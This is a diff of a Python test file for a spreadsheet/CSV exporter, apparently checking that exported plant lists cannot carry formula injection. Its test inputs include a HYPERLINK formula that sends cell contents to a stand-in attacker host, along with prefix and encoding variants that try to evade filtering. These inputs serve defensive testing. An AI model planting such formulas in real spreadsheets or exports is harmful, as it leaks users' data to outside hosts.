@@ -16,12 +16,7 @@ HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
 LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
 RUNS = [
     LINK,
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A9)",
-    f" {LINK}",
-    f"\u200e{LINK}",
-    "\uff1d1+1",
+    *("+1+1", "-1+1", "@SUM(A1:A9)", f" {LINK}", f"\u200e{LINK}", "\uff1d1+1"),
     # A spreadsheet takes the outer quotation marks off what is pasted.
     '"=HYPERLINK(""http://attacker.example"")"',
     f'"\t{LINK}',
@@ -53,16 +48,6 @@ def test_nothing_in_a_list_runs_where_it_is_pasted_or_opened(tmp_path):
         assert not any(runs(cell) for cell in (*copied, *saved)), text
 
 
-@pytest.mark.parametrize("separator", [",", ";"])
-def test_nothing_runs_where_a_spreadsheet_splits_lines_as_this_computer_does(separator, tmp_path):
-    texts = [f"Rosa{separator}{LINK}", f'Rosa"{separator}{LINK}', f"Rosa\r\n{separator}{LINK}"]
-    rows = [[text] for text in texts]
-    write_table(tmp_path / "list.csv", "Plants", ["Name"], rows, separator=separator)
-    saved = (tmp_path / "list.csv").read_bytes().decode("utf-8-sig")
-    _, *read = csv.reader(io.StringIO(saved, newline=""), delimiter=separator)
-    assert [len(row) for row in read] == [1, 1, 1]
-
-
 @pytest.mark.parametrize("text", ["Rosa;{}", 'Rosa;"{}', "Rosa\n{}", "Rosa", "Rosa; red"])
 def test_a_sheet_keeps_its_separator_only_where_nothing_runs_at_this_computer_s(text, tmp_path):
     path, form = tmp_path / "list.csv", TextForm("utf-8", ",")
@@ -71,6 +56,9 @@ def test_a_sheet_keeps_its_separator_only_where_nothing_runs_at_this_computer_s(
     _, saved = path.read_text("utf-8").split("\n", 1)
     assert saved.startswith('"1";' if LINK in row[1] else '"1",')
     assert read(path, look_at(path).form).rows[1] == ("1", row[1])
+    # Without a form to keep, this computer's counts.
+    write_table(path, "Plants", ["Id", "Name"], [row], separator=";")
+    assert b'"1";' in path.read_bytes()
 
 
 def test_a_workbook_has_nothing_but_texts(tmp_path):
